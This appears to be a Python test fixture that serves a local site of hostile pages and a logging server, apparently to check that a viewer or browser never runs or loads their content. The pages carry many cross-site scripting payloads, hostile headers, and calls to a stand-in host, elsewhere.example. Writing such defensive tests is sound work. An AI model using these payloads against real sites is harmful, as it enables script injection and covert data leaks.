"""A site of pages that would like to run in the console, and a server elsewhere that sees who calls."""

import http.server
import threading

# Whatever of this runs leaves a trace: a dialog, a mark in the window or in the storage, a call elsewhere.
SCRIPT = ("try{top.pwned=1}catch(e){}try{window.pwned=1}catch(e){}try{localStorage.setItem('pwned','1')}catch(e){}"
          "try{top.document.title='pwned'}catch(e){}try{fetch('http://elsewhere.example/fetch')}catch(e){}"
          "try{parent.postMessage('pwned','*')}catch(e){}try{top.location='http://elsewhere.example/top'}catch(e){}"
          "try{open('http://elsewhere.example/open')}catch(e){}alert('pwned')")

PAGES = {
    "/script.html": ("text/html", f"<title><script>{SCRIPT}</script></title><script>{SCRIPT}</script><h1>Script</h1>"
                     f"<img src=x onerror=\"{SCRIPT}\"><body onload=\"{SCRIPT}\"><svg onload=\"{SCRIPT}\"></svg>"
                     "<script src=http://elsewhere.example/script.js></script>"),
    "/title.html": ("text/html", f"<title></title></textarea><script>{SCRIPT}</script><!-- --></title><h1>Title</h1>"),
    "/svg.svg": ("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg'><script>{SCRIPT}</script>"
                 "<image href='http://elsewhere.example/svg.png'/><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' "
                 "src='http://elsewhere.example/svg-frame'/></foreignObject></svg>"),
    "/refresh.html": ("text/html", "<meta http-equiv=refresh content='0;url=http://elsewhere.example/refresh'>"
                      "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><h1>Refresh</h1>"),
    "/frames.html": ("text/html", "<h1>Frames</h1><iframe src=http://elsewhere.example/frame></iframe>"
                     f"<iframe srcdoc=\"<script>{SCRIPT}</script>\"></iframe><iframe src=\"javascript:{SCRIPT}\"></iframe>"
                     f"<iframe src=\"data:text/html,<script>{SCRIPT}</script>\"></iframe>"
                     "<object data=http://elsewhere.example/object></object><embed src=http://elsewhere.example/embed>"
                     "<frameset><frame src=http://elsewhere.example/frameset></frameset>"),
    "/loads.html": ("text/html", "<h1>Loads</h1><link rel=preconnect href=http://elsewhere.example/>"
                    "<link rel=dns-prefetch href=//elsewhere.example><link rel=stylesheet href=http://elsewhere.example/a.css>"
                    "<link rel=prefetch href=http://elsewhere.example/prefetch><link rel=preload as=image href=http://elsewhere.example/pre>"
                    "<link rel=modulepreload href=http://elsewhere.example/m.js><link rel=icon href=http://elsewhere.example/icon>"
                    "<link rel=manifest href=http://elsewhere.example/manifest><base href=http://elsewhere.example/>"
                    "<style>@import url(http://elsewhere.example/import.css);body{background:url(http://elsewhere.example/bg.png)}"
                    "@font-face{font-family:x;src:url(http://elsewhere.example/font)}h1{font-family:x}</style>"
                    "<img src=http://elsewhere.example/img.png srcset='http://elsewhere.example/2x.png 2x'><img src=relative.png>"
                    "<video src=http://elsewhere.example/v poster=http://elsewhere.example/p autoplay></video>"
                    "<audio src=http://elsewhere.example/a autoplay></audio><input type=image src=http://elsewhere.example/i>"
                    "<form id=f action=http://elsewhere.example/form><button autofocus>Send</button></form><script>f.submit()</script>"
                    "<a id=go href=http://elsewhere.example/click ping=http://elsewhere.example/ping>Go</a><table background=http://elsewhere.example/t>"),
    "/data.html": ("text/html", f"<h1>Data</h1><a href=\"data:text/html,<script>{SCRIPT}</script>\">data</a>"
                   f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='http://elsewhere.example/d'/></svg>\">"),
    "/xhtml.html": ("application/xhtml+xml", "<html xmlns='http://www.w3.org/1999/xhtml'><body><h1>XHTML</h1>"
                    f"<script>{SCRIPT.replace('&', '&amp;').replace('<', '&lt;')}</script></body></html>"),
    "/sniffed.bin": ("application/octet-stream", f"<html><script>{SCRIPT}</script>"),
    "/plain.txt": ("text/plain", f"<html><script>{SCRIPT}</script>"),
    "/script.js": ("text/javascript", SCRIPT),
    "/utf7.html": ("text/html; charset=utf-7", f"+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-<h1>UTF-7</h1>"),
    "/%3Cimg%20src=x%20onerror=alert(1)%3E?%22onmouseover=%22alert(1)": ("text/html", "<h1>Path</h1>"),
}

# Headers that must be shown as text, and never be sent on.
HEADERS = [
    ("X-Evil", f"<script>{SCRIPT}</script><img src=x onerror=alert(1)>"),
    ("Refresh", "0;url=http://elsewhere.example/refresh-header"),
    ("Link", "<http://elsewhere.example/link-header>; rel=preload; as=script"),
    ("Set-Cookie", "evil=1; Path=/"),
    ("Access-Control-Allow-Origin", "*"),
    ("Content-Disposition", "attachment; filename=evil.exe"),
    ("Clear-Site-Data", "\"*\""),
]


def serve(handler):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class Site(http.server.BaseHTTPRequestHandler):
    """The pages, each linked from the first; and one that nobody links to, to see that they do call when nothing keeps them from it."""

    def do_GET(self):
        if self.path == "/":
            links = "".join(f"<p><a href=\"{path}\">{number}</a>" for number, path in enumerate(PAGES))
            kind, text = "text/html", f"<!DOCTYPE html><title>\"><img src=x onerror=alert(1)></title>{links}<p><a href=/missing>404</a>"
        elif self.path in PAGES:
            kind, text = PAGES[self.path]
        elif self.path == "/control.html":
            kind, text = PAGES["/loads.html"]
        else:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = text.encode()
        self.send_response(200, "OK <script>alert(1)</script>")
        self.send_header("Content-Type", kind)
        for name, value in HEADERS if self.path != "/control.html" else []:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


class Elsewhere:
    """Where the names in the hostile pages lead to: it keeps who has connected, even without a word."""

    def __init__(self):
        calls = self.calls = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def setup(self):
                calls.append("a connection")
                super().setup()

            def do_GET(self):
                calls.append(f"{self.headers.get('Host')}{self.path}")
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_OPTIONS = do_HEAD = do_CONNECT = do_GET

            def log_message(self, *_):
                pass

        self.port = serve(Handler).server_address[1]
